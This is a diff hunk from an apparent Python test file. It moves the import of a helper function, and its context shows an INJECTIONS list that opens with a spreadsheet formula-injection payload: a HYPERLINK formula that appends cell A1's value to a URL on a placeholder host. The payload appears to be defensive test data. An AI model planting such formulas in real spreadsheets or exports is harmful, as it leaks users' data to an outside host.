@@ -8,9 +8,10 @@ import zipfile
 from pathlib import Path
 
 import pytest
+from conftest import copy_examples
 
 from hostile.bounded import run_bounded
-from hostile.round3 import BOOK, copy_examples, only_written, tree_state
+from hostile.round3 import BOOK, only_written, tree_state
 
 INJECTIONS = [
     '=HYPERLINK("http://例子.invalid/?"&A1,"点击查看")',
